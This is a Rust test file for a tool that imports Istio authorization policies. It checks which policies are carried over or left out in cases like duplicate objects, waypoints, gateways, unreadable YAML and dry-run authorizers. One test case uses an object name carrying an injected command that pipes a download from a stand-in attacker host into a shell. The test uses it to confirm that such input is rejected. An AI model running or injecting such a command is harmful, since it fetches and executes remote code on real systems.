//! Imports with parts that cannot be imported.

use policy_schema::import::{Options, Outcome};

use super::objects::{
    OF_ALL, OF_CART, OF_CART_2, OF_VERSION, OF_WEB, UNSAID, carried, import, object,
};
use super::{MESH, imported, messages};

type Case<'c> = (&'c [(&'c str, &'c str)], &'c [&'c str], &'c [usize]);

/// The imported policies of some objects, and the objects that are left out.
fn assert_carried(cases: &[Case<'_>]) {
    for (objects, expected, lost) in cases {
        let imported = import(objects);
        let found = carried(&imported);
        assert_eq!(found.0, *expected, "{objects:?}: {}", messages(&imported));
        assert_eq!(found.1, *lost, "{objects:?}: {}", messages(&imported));
    }
}

#[test]
fn copies_of_an_object_are_one_or_none() {
    assert_carried(&[
        // It is unknown which of the versions the cluster has.
        (
            &[
                ("shop/a", OF_CART),
                ("shop/a", OF_WEB),
                ("shop/b", OF_CART),
                ("shop/c", OF_VERSION),
                ("bank/a", OF_CART),
            ],
            &["bank/a"],
            &[1, 2, 3, 4],
        ),
        (
            &[
                ("shop/a", OF_CART),
                ("shop/a", OF_CART),
                ("shop/b", OF_CART),
            ],
            &["shop/a"],
            &[],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/a; curl evil.example | sh", OF_WEB),
            ],
            &[],
            &[1, 2],
        ),
    ]);
}

#[test]
fn policies_of_a_workload_are_imported_together_or_not_at_all() {
    assert_carried(&[
        (
            &[("shop/a", UNSAID), ("shop/b", OF_WEB)][..],
            &["shop/b"][..],
            &[1][..],
        ),
        (&[("shop/a", UNSAID), ("shop/b", OF_CART)], &[], &[1]),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/b", OF_CART_2),
                ("shop/c", OF_WEB),
            ],
            &["shop/c"],
            &[1, 2],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", OF_ALL), ("shop/c", OF_WEB)],
            &[],
            &[1, 2, 3],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("shop/b", OF_VERSION),
                ("shop/c", OF_WEB),
            ],
            &[],
            &[1, 2, 3],
        ),
        (&[("shop/a", UNSAID), ("bank/b", OF_ALL)], &["bank/b"], &[1]),
        (
            &[
                ("shop/a", UNSAID),
                ("istio-system/b", OF_ALL),
                ("bank/c", OF_ALL),
            ],
            &[],
            &[1, 2, 3],
        ),
        (
            &[
                ("shop/a", UNSAID),
                ("istio-system/b", OF_WEB),
                ("bank/c", OF_CART),
            ],
            &["bank/c", "istio-system/b"],
            &[1],
        ),
        // Its attachment cannot be read.
        (
            &[
                ("shop/a", "{selector: 5}"),
                ("shop/b", OF_WEB),
                ("bank/c", OF_WEB),
            ],
            &["bank/c"],
            &[1, 2],
        ),
        (
            &[
                (
                    "shop/a",
                    "{selector: {matchLabels: {app: cart}}, rules: [{form: []}]}",
                ),
                ("shop/b", OF_WEB),
            ],
            &["shop/b"],
            &[1],
        ),
        (
            &[
                (
                    "shop/a",
                    "{targetRefs: [{kind: Service, name: x}], action: DENY, rules: [{to: [{operation: {paths: [\"/a*b\"]}}]}]}",
                ),
                (
                    "shop/b",
                    "{targetRefs: [{kind: Service, name: x}, {kind: Service, name: w}], rules: [{}]}",
                ),
                (
                    "shop/c",
                    "{targetRefs: [{kind: Service, name: z}], rules: [{}]}",
                ),
            ],
            &["shop/b", "shop/c"],
            &[1],
        ),
    ]);
}

fn target(kind: &str, name: &str) -> String {
    let group = match kind {
        "Service" => "",
        "ServiceEntry" => "networking.istio.io",
        _ => "gateway.networking.k8s.io",
    };
    format!("{{kind: {kind}, group: {group:?}, name: {name}}}")
}

/// At a waypoint, either a policy for it or one for a service behind it can allow a request. In the
/// language both must allow it.
#[test]
fn leaves_out_policies_that_a_waypoint_combines() {
    const ALLOW: &str = "rules: [{to: [{operation: {paths: [/a]}}]}]";
    const DENY: &str = "action: DENY, rules: [{to: [{operation: {paths: [/b]}}]}]";
    let of = |kind: &str, name: &str, spec: &str| {
        let target = target(kind, name);
        format!("{{targetRefs: [{target}], {spec}}}")
    };
    let class = |spec| of("GatewayClass", "istio-waypoint", spec);
    let gateway = |spec| of("Gateway", "waypoint", spec);
    let service = |spec| of("Service", "cart", spec);
    let (class_deny, class_nothing) = (&*class(DENY), &*class("rules: []"));
    let (gateway_allow, gateway_deny) = (&*gateway(ALLOW), &*gateway(DENY));
    let (service_allow, service_deny) = (&*service(ALLOW), &*service(DENY));
    let entry = &*of("ServiceEntry", "partner", ALLOW);
    assert_carried(&[
        (
            &[("shop/a", gateway_allow), ("shop/b", service_allow)][..],
            &[][..],
            &[1, 2][..],
        ),
        (
            &[("shop/a", gateway_allow), ("shop/b", entry)],
            &[],
            &[1, 2],
        ),
        // Without rules it allows nothing.
        (
            &[("istio-system/a", class_nothing), ("shop/b", service_allow)],
            &[],
            &[1, 2],
        ),
        // A denial of either is final.
        (
            &[
                ("istio-system/a", class_deny),
                ("shop/b", gateway_deny),
                ("shop/c", service_allow),
            ],
            &["istio-system/a", "shop/b", "shop/c"],
            &[],
        ),
        (
            &[("shop/a", gateway_allow), ("shop/b", service_deny)],
            &["shop/a", "shop/b"],
            &[],
        ),
        // A gateway into the mesh enforces no policies of services, and a waypoint none of pods.
        (
            &[
                ("edge/a", gateway_allow),
                ("shop/b", service_allow),
                ("shop/c", OF_ALL),
            ],
            &["edge/a", "shop/b", "shop/c"],
            &[],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", service_allow)],
            &["shop/b"],
            &[1],
        ),
        (
            &[("shop/a", UNSAID), ("shop/b", gateway_allow)],
            &[],
            &[1, 2],
        ),
    ]);
}

/// Without the `Gateway`, it is unknown whether it is a waypoint.
#[test]
fn reports_policies_that_istio_may_combine_at_a_gateway() {
    const RULES: &str = "rules: [{to: [{operation: {paths: [/a]}}]}]";
    const NOTHING: &str = "{rules: []}";
    const DENY: &str = "{action: DENY, rules: [{to: [{operation: {paths: [/b]}}]}]}";
    let of = |kind: &str| format!("{{targetRefs: [{}], {RULES}}}", target(kind, "x"));
    let (gateway, service) = (&*of("Gateway"), &*of("Service"));
    for (other, spec, expected) in [
        ("shop/b", service, Some("if that is a waypoint")),
        ("edge/b", OF_ALL, Some("unless the gateway is a waypoint")),
        (
            "istio-system/b",
            OF_ALL,
            Some("unless the gateway is a waypoint"),
        ),
        ("shop/b", OF_ALL, None),
        ("edge/b", OF_WEB, None),
        ("edge/b", NOTHING, None),
        ("istio-system/b", DENY, None),
    ] {
        let findings = import(&[("edge/a", gateway), (other, spec)]).findings;
        let mut notes = findings.iter().filter(|finding| {
            finding.outcome == Outcome::Noted && finding.message.contains("a waypoint")
        });
        let note = notes.next();
        assert_eq!(note.is_some(), expected.is_some(), "{other} {spec}");
        if let (Some(note), Some(expected)) = (note, expected) {
            assert!(note.message.contains(expected), "{}", note.message);
            assert_eq!(note.place.source, 1);
        }
    }
}

/// Errors that only show when the documents are combined name the original.
#[test]
fn reports_refused_values_at_their_place() {
    let custom = "{selector: {matchLabels: {app: cart}}, action: CUSTOM, provider: {name: p}, rules: [{}, {from: [{source: {namespaces: [a]}}]}]}";
    let imported = import(&[("shop/a", OF_WEB), ("shop/b", custom)]);
    assert_eq!(carried(&imported), (vec!["shop/a".to_owned()], vec![2]));
    let finding = imported
        .findings
        .iter()
        .find(|found| found.outcome == Outcome::LeftOut);
    let finding = finding.unwrap();
    let text = object("shop/b", custom);
    let span = finding.place.span;
    assert!(
        text.get(span.start..span.end)
            .unwrap()
            .contains("namespaces: [a]"),
        "{finding:?}"
    );
    assert!(
        finding.message.contains("test callers or claims"),
        "{finding:?}"
    );
}

/// An unreadable document may be a policy for any workload of the namespaces that it mentions.
#[test]
fn an_unreadable_document_counts_for_the_kinds_it_mentions() {
    let policy = |namespace: &str| {
        format!(
            "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\n\
             metadata: {{name: x, namespace: {namespace}}}\nspec: {{rules: []}}\nspec: {{rules: [{{}}]}}\n"
        )
    };
    let strict = "apiVersion: security.istio.io/v1\nkind: PeerAuthentication\n\
                  metadata: {name: default, namespace: istio-system}\nspec: {mtls: {mode: STRICT}}\n";
    let mode = "kind: PeerAuthentication\nmetadata: {namespace: shop}\nspec: [\n";
    for (text, names, is_strict) in [
        (
            "kind: Deployment\nspec: [\n",
            &["bank/b", "shop/a"][..],
            true,
        ),
        (
            "kind: AuthorizationPolicy\nmetadata: {namespace: {{ .Release.Namespace }}}\n",
            &["bank/b", "shop/a"],
            true,
        ),
        (&*policy("shop"), &["bank/b"], true),
        (&*policy("istio-system"), &[], true),
        ("kind: AuthorizationPolicy\nspec: [\n", &[], true),
        (mode, &["bank/b", "shop/a"], false),
    ] {
        let texts = [
            MESH,
            strict,
            text,
            &object("shop/a", OF_CART),
            &object("bank/b", OF_WEB),
        ];
        let imported = imported(&texts, &Options::default());
        assert_eq!(
            carried(&imported).0,
            names,
            "{text}: {}",
            messages(&imported)
        );
        let mesh = serde_json::to_value(&imported.documents.as_ref().unwrap().mesh).unwrap();
        assert_eq!(
            mesh["spec"]["mtls"]["mode"] == "Strict",
            is_strict,
            "{text}: {mesh}"
        );
        assert_eq!(
            imported.documents.unwrap().replaced.len(),
            names.len(),
            "{text}"
        );
    }
}

#[test]
fn does_not_import_a_dry_run_authorizer() {
    let custom =
        "{selector: {matchLabels: {app: cart}}, action: CUSTOM, provider: {name: p}, rules: [{}]}";
    let text = object("shop/a", custom).replace(
        "namespace: shop}",
        "namespace: shop, annotations: {istio.io/dry-run: \"true\"}}",
    );
    let imported = imported(&[MESH, &text], &Options::default());
    assert!(messages(&imported).contains("but Istio asks its authorizer anyway"));
    assert_eq!(imported.documents.unwrap().policies.len(), 0);
}
